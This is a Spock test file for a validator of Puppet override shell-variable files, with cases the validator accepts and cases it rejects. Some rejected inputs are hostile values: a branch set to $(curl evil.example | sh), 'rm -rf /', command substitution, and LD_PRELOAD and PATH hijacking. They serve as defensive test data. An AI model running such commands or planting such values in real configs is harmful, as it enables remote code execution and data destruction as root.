package dev.fleetroll.puppet

import spock.lang.Specification

class OverrideValidatorSpec extends Specification {
    static final String GOOD = '''\
# canary for the resolverd fix
PUPPET_REPO='https://github.com/mozilla-platform-ops/ronin_puppet.git'
PUPPET_BRANCH='fix/resolverd_1804-v2'
PUPPET_MAIL='relops@mozilla.com'
# WORKER_TYPE_OVERRIDE='gecko-t-linux-talos-1804-staging'
'''

    def "a well-formed override passes and yields its settings"() {
        when:
        def c = OverrideValidator.validate(GOOD.getBytes('UTF-8'), 'x.override')

        then:
        c.settings().repo() == 'https://github.com/mozilla-platform-ops/ronin_puppet.git'
        c.settings().branch() == 'fix/resolverd_1804-v2'
        c.settings().mail() == 'relops@mozilla.com'
        c.settings().workerType() == null
        c.assignments().size() == 3
    }

    def "accepted forms: #text"() {
        expect:
        OverrideValidator.validate(text.getBytes('UTF-8'), 'x.override').settings() != null

        where:
        text << [
                '',
                '# only a comment\n\n',
                "PUPPET_BRANCH=main\n",
                "PUPPET_BRANCH=\"main\"\n",
                "export PUPPET_BRANCH='main'\n",
                "  PUPPET_BRANCH='main'   # trailing comment\n",
                "PUPPET_REPO='git@github.com:o/r.git'\n",
                "PUPPET_REPO='http://git.local/r.git'\n",
                "WORKER_TYPE_OVERRIDE='gecko-t-linux-1804'\n",
                "PUPPET_MAIL=\"o'brien@example.co.uk\"\n",
                "OTHER_KNOB='any text; \$(even this) is literal in single quotes'\n",
                "PUPPET_BRANCH='main'",       // no final newline
                "PUPPET_BRANCH='main'\n\tPUPPET_MAIL='a@b.c'\n",
        ]
    }

    def "rejected (#rule) with one line naming line #line"() {
        when:
        OverrideValidator.validate(content instanceof String ? content.getBytes('UTF-8') : content as byte[], 'configs/overrides/x.override')

        then:
        def e = thrown(InvalidFileError)
        e.rule() == rule
        e.line() == line
        e.message.startsWith('configs/overrides/x.override: ' + (line ? "line ${line}: " : ''))
        e.message.endsWith("[rule ${rule}]")
        !e.message.contains('\n')
        e.message.contains(words)

        where:
        content                                                       | rule                      | line | words
        "PUPPET_BRANCH='a\n"                                          | 'shell-syntax'            | 1    | 'bash -n'
        "# c\nif then\n"                                              | 'shell-syntax'            | 2    | 'syntax error'
        "PUPPET_BRANCH='main'\nPUPPET_REPO='https://x/r'\n"           | 'repo-url'                | 2    | '.git'
        "PUPPET_REPO='ftp://x/r.git'\n"                               | 'repo-url'                | 1    | 'https://'
        "PUPPET_REPO='/srv/r.git'\n"                                  | 'repo-url'                | 1    | 'git@'
        "PUPPET_BRANCH='feature.x'\n"                                 | 'branch-characters'       | 1    | "'feature.x'"
        "PUPPET_BRANCH='a b'\n"                                       | 'branch-characters'       | 1    | 'letters, digits'
        "PUPPET_BRANCH=''\n"                                          | 'branch-characters'       | 1    | 'empty'
        "PUPPET_MAIL='relops'\n"                                      | 'mail-address'            | 1    | 'e-mail'
        "PUPPET_MAIL='a@b'\n"                                         | 'mail-address'            | 1    | 'e-mail'
        "WORKER_TYPE_OVERRIDE='pool_1'\n"                             | 'worker-type-characters'  | 1    | "'pool_1'"
        [0x50, 0x3d, 0x27, 0xff, 0x27, 0x0a] as byte[]                 | 'utf-8'                   | 1    | '0xff at column 4'
        bytes("# ok\n# ok\nPUPPET_BRANCH='caf", [0xc3], "'\n") | 'utf-8' | 3 | 'column 19'
        "PUPPET_BRANCH='main'\r\n"                                    | 'plain-text'              | 1    | 'LF line endings'
        "\uFEFFPUPPET_BRANCH='main'\n"                                | 'plain-text'              | 1    | 'BOM'
        "PUPPET_BRANCH='ma\u0000in'\n"                                | 'plain-text'              | 1    | 'U+0000'
        "PUPPET_BRANCH=\$(curl evil.example | sh)\n"                  | 'no-command-substitution' | 1    | 'sourced as root'
        "PUPPET_BRANCH=`id`\n"                                        | 'no-command-substitution' | 1    | 'backticks'
        "PUPPET_BRANCH=\"\$(id)\"\n"                                  | 'no-command-substitution' | 1    | 'command substitution'
        "PUPPET_BRANCH=\"\$HOME\"\n"                                  | 'no-expansion'            | 1    | "'\$'"
        "PUPPET_BRANCH='main'; rm -rf /\n"                            | 'assignments-only'        | 1    | 'one assignment per line'
        "PUPPET_BRANCH='main' PUPPET_MAIL='a@b.c'\n"                  | 'assignments-only'        | 1    | 'one assignment per line'
        "# x\n\nrm -rf /\n"                                           | 'assignments-only'        | 3    | "found 'rm -rf /'"
        "source /tmp/x\n"                                             | 'assignments-only'        | 1    | 'only comments'
        "PATH='/tmp'\n"                                               | 'reserved-variable'       | 1    | 'PATH'
        "LD_PRELOAD='/tmp/x.so'\n"                                    | 'reserved-variable'       | 1    | 'LD_PRELOAD'
        "PUPPET_BRANCH='a'\nPUPPET_BRANCH='b'\n"                      | 'duplicate-assignment'    | 2    | 'first on line 1'
        "PUPPET_BRACH='main'\n"                                       | 'known-variable'          | 1    | 'misspelling of PUPPET_BRANCH'
        "puppet_branch='main'\n"                                      | 'known-variable'          | 1    | 'PUPPET_BRANCH'
    }

    static byte[] bytes(Object... parts) {
        def out = new ByteArrayOutputStream()
        parts.each { out.write(it instanceof String ? it.getBytes('UTF-8') : it as byte[]) }
        out.toByteArray()
    }

    def "the bash -n message names the operator's file, not a temp file"() {
        when:
        OverrideValidator.validate("PUPPET_BRANCH='a\n".getBytes('UTF-8'), 'my.override')

        then:
        def e = thrown(InvalidFileError)
        !e.message.contains('/tmp/')
    }
}
